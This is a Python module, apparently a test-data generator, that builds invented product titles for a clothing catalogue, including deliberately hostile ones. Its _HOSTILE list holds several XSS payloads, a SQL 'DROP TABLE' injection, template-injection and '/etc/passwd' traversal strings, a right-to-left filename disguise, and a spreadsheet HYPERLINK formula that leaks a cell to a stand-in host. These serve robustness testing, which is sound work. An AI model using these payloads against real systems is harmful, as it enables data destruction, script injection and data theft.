"""Titles as merchants write them, and those that make a reader stumble. All brands are invented."""

import random

from .shelves import LANGUAGES, Shelf

BRANDS = (
    "Quillmere",
    "Brindlok",
    "Fennrisk",
    "Solvanti",
    "Tarnwyck",
    "Ovelune",
    "Kestrova",
    "Marrowdene",
    "Pellucine",
    "Drovane",
    "Hazelquist",
    "Umbrelle & Finch",
    "Zephyrine Lo",
    "Northquay Mill",
    "Calderosso",
    "Wrenfold",
    "Ostrelle",
    "Tiverlane",
    "Bexmoor",
    "Lunaquill",
    "Saffrina Roe",
    "Grindle & Hay",
    "Aurivelle",
    "Coppertern",
)
_ADJECTIVES = (
    "Classic",
    "Everyday",
    "Slim",
    "Relaxed",
    "Signature",
    "Soft",
    "Premium",
    "Essential",
    "Modern",
    "Vintage",
    "Light",
    "Urban",
    "Weekend",
    "Heritage",
    "Studio",
    "Textured",
)
_NAMES = (
    "Aria",
    "Nova",
    "Juniper",
    "Atlas",
    "Mira",
    "Orson",
    "Lagoon",
    "Ember",
    "Cleo",
    "Rowan",
    "Skye",
    "Indigo",
    "Fable",
    "Harbour",
)
_VAGUE = (
    "Classic Essential No. {n}",
    "The {name} Edit",
    "{brand} Everyday Favourite",
    "Style {n} – {colour}",
    "{name} Collection Piece {n}",
    "New In: The {name}",
    "{brand} Item {n}",
    "Tunic or Dress {name}",
    "2-in-1 {name} Set",
    "{colour} Something Special",
)
_FOREIGN = {
    "fr": (
        "{noun} {brand} élégant, coupe moderne",
        "{noun} pour l’été – collection {name}",
        "Nouveauté : {noun} « {name} » par {brand}",
    ),
    "de": (
        "{noun} „{name}“ von {brand} – bequem und zeitlos",
        "{brand} {noun} für jeden Tag, größengerecht",
        "Schöne {noun}-Neuheit im Frühjahr",
    ),
    "es": (
        "{noun} {brand} de temporada, edición {name}",
        "{noun} cómodo y elegante para mañana",
        "¡Nuevo! {noun} {name}",
    ),
    "ja": (
        "【新作】{brand} {noun} {name}",
        "{noun} レディース メンズ おしゃれ {brand}",
        "{brand}の定番{noun}",
    ),
    "ar": ("{noun} {brand} أنيق للصيف", "{noun} جديد من {brand}", "تشكيلة {name}: {noun} مريح"),
}
_HOSTILE = (
    "<script>alert(1)</script>{title}",
    "{title} \u202egnp.elif\u202c",
    "🔥🔥 {title} 💃🏽👩‍👩‍👧‍👦 50% OFF ✨",
    '=HYPERLINK("http://example.invalid/?x="&A1,"{title}")',
    '{title} "><img src=x onerror=alert(document.domain)>',
    "{title}'); DROP TABLE products;--",
    "{{{{7*7}}}} ${{7*7}} {title} %00 ../../etc/passwd",
    "Z\u0351\u036b\u0343a\u0308\u0301l\u0321go {title} \u200b\u200b\ufeff",
)
_LONG = 300


def plain_title(shelf: Shelf, gender: str, colour: str, rng: random.Random) -> str:
    """A normal title; about one in seven does not name the article."""
    noun = rng.choice(shelf.nouns)
    words = {
        "brand": rng.choice(BRANDS),
        "gender": gender,
        "colour": colour,
        "noun": noun,
        "adjective": rng.choice(_ADJECTIVES),
        "name": rng.choice(_NAMES),
        "n": rng.randint(2, 99),
    }
    if rng.random() < 0.14:
        return rng.choice(
            (
                "{brand} {gender} {adjective} {colour} {name}",
                "{brand} {name} {n} {colour}",
                "{brand} {adjective} {name}",
            )
        ).format(**words)
    forms = (
        "{brand} {gender} {colour} {noun}",
        "{brand} {gender} {adjective} {colour} {noun}",
        "{brand} {name} {noun}",
        "{adjective} {colour} {noun} by {brand}",
        "{brand} {colour} {adjective} {noun}",
    )
    return rng.choice(forms).format(**words)


def vague_title(colour: str, rng: random.Random) -> str:
    return rng.choice(_VAGUE).format(
        n=rng.randint(2, 99), name=rng.choice(_NAMES), brand=rng.choice(BRANDS), colour=colour
    )


def foreign_title(shelf: Shelf, turn: int, rng: random.Random) -> str:
    """A title in one of the languages, in turn."""
    index = turn % len(LANGUAGES)
    form = rng.choice(_FOREIGN[LANGUAGES[index]])
    return form.format(noun=shelf.foreign[index], brand=rng.choice(BRANDS), name=rng.choice(_NAMES))


def hostile_title(title: str, turn: int) -> str:
    """A title that attacks whatever shows it, in turn; the last kind is just very long."""
    kind = turn % (len(_HOSTILE) + 1)
    if kind == len(_HOSTILE):
        return (f"{title} – limited edition " * 20)[:_LONG]
    return _HOSTILE[kind].format(title=title)
